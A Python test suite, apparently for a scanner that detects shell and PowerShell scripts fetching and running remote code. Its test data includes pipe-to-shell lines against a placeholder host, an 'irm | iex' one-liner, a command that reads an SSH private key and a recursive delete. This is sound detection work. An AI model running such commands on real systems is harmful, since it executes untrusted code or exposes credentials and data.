"""Scripts of shells: what they fetch, decode and run is found however it is written."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanners.budget import Limits
from scanners.facts import Opens
from scanners.formats import python, shell, text
from scanners.judge import complete, judge
from scanners.rules.policy import Policy
from tests.craft import commands
from tests.craft.reading import referenced, scan, scan_in_rounds, unread_reasons

SCANNERS = (python.SCANNER, shell.SCANNER, text.WIDE, text.SCANNER)


def read(source, name="install.sh", **more):
    return scan(source.encode() if isinstance(source, str) else source, name, scanners=SCANNERS, **more)


def findings(outcome, name="install.sh"):
    found = judge(outcome.facts, path=name, format=outcome.format, policy=Policy.default())
    return {(finding.rule, finding.severity) for finding in found}


@pytest.mark.parametrize(("source", "rule", "severity"), commands.ATTACKS.values(), ids=commands.ATTACKS)
def test_what_attackers_have_people_run_is_found(source, rule, severity):
    outcome = read(source)
    assert (rule, severity) in findings(outcome)
    assert complete(outcome.facts, outcome.account)


@pytest.mark.parametrize(
    ("source", "rule", "severity"), commands.WINDOWS_ATTACKS.values(), ids=commands.WINDOWS_ATTACKS
)
@pytest.mark.parametrize("name", ["run.bat", "run.ps1", "run.CMD"])
def test_the_same_on_windows(source, rule, severity, name):
    assert (rule, severity) in findings(read(source, name), name)


@pytest.mark.parametrize("source", commands.HONEST.values(), ids=commands.HONEST)
def test_what_honest_scripts_do_is_clean(source):
    outcome = read(source)
    assert findings(outcome) == set()
    assert complete(outcome.facts, outcome.account)


@pytest.mark.parametrize(
    "source",
    [
        "curl -LsSf https://astral.sh/uv/install.sh | sh",
        "curl -sSL https://install.python-poetry.org | python3 -",
        "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh\nbash Miniconda3-latest-Linux-x86_64.sh -b",
    ],
)
def test_installers_that_everybody_knows_weigh_little(source):
    assert findings(read(source)) == {("shell-runs-fetched", "low")}


@pytest.mark.parametrize(
    "source",
    [
        "# curl https://a.example/x | sh", "echo 'curl https://a.example/x | sh'", "curl https://a.example/x | bash -n script.sh",
        "curl https://a.example/x > x.sh", "wget https://a.example/x.sh; cat x.sh", "wget https://a.example/x.sh; chmod 644 x.sh",
        "base64 -d x > y; sh z", "cat ~/.ssh/id_rsa", 'curl -H "Authorization: Bearer $HF_TOKEN" https://huggingface.co/api',
        "rm -rf /tmp/x ~/x ./", "nc -z localhost 80", "docker run --rm image", "cat >x.sh <<E\ncurl https://a.example/x | sh\nE",
    ],
)  # fmt: skip
def test_near_misses_are_silent(source):
    assert findings(read(source)) == set()


@pytest.mark.parametrize(
    ("path", "when"),
    [("install.sh", "manual run"), (".envrc", "editor"), ("docker/Dockerfile", "build"), ("Makefile", "build")],
)
def test_a_finding_says_what_makes_the_command_run(path, when):
    outcome = read("curl https://a.example/x | sh")
    [finding] = judge(outcome.facts, path=path, format="shell", policy=Policy.default())
    assert finding.evidence["trigger"] == when


def test_what_a_command_installs_is_stated():
    outcome = read(
        "python3 -m pip install -U torch==2.0 'numpy<2' git+https://g.example/a -i https://i.example/s\napt-get install -y git"
    )
    assert referenced(outcome, "package") == {("pip", "torch"), ("pip", "numpy"), ("apt", "git")}
    opened = {(fact.path, fact.by) for fact in outcome.facts if isinstance(fact, Opens)}
    assert opened == {("git+https://g.example/a", ""), ("https://i.example/s", "--index-url")}


def test_a_shebang_counts_under_any_name():
    assert findings(read("#!/bin/sh\ncurl https://a.example/x | sh", "weights.bin")) >= {("shell-runs-fetched", "high")}


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "latin-1"])
def test_what_windows_writes_is_read(encoding):
    outcome = read("# caf\xe9\nirm https://a.example/x | iex".encode(encoding), "a.ps1")
    assert findings(outcome, "a.ps1") == {("shell-runs-fetched", "high")}


@pytest.mark.parametrize(
    "source", ["$(" * 100_000, "`$(" * 50_000, "$(" * 50_000 + ")" * 50_000, "(" * 200_000, "bash -c '" * 9 + "\\'" * 9]
)
def test_nesting_without_end_ends(source):
    outcome = read(source)
    assert outcome.account.unexplained == 0 or unread_reasons(outcome) == {"limit"}


def test_a_script_beyond_the_limits_is_said():
    assert unread_reasons(read("a\n" * 3_000)) == {"limit"}
    assert unread_reasons(read("#" * (3 << 20))) == {"limit"}
    assert unread_reasons(read("a\n" * 100, limits=Limits(whole=10))) == set()


def test_bytes_that_come_piece_by_piece_say_the_same():
    data = "\n".join(source for source, _, _ in commands.ATTACKS.values()).encode()
    outcome, _, _ = scan_in_rounds(data, "a.sh", scanners=SCANNERS, block=64)
    assert outcome == scan(data, "a.sh", scanners=SCANNERS)


PIECES = st.lists(st.sampled_from(["$(", ")", "`", "'", '"', "\\", "\n", "|", "<<E", "E", "curl x", "{", "}", ";", "<(", "sh", " ", "&", "$'", "a=b", "$a", "#", "<<<", ">"]), max_size=40)  # fmt: skip


@given(pieces=PIECES, name=st.sampled_from(["a.sh", "a.ps1", "a.bat"]))
@settings(max_examples=300, deadline=None)
def test_any_text_is_read_to_an_outcome(pieces, name):
    outcome = read("".join(pieces) or "a", name)
    assert outcome.account.unexplained == 0 or unread_reasons(outcome)


@given(data=st.binary(min_size=1, max_size=200))
@settings(max_examples=100, deadline=None)
def test_any_bytes_are_read_or_refused(data):
    outcome = read(data)
    assert outcome.account.unexplained == 0 or outcome.facts
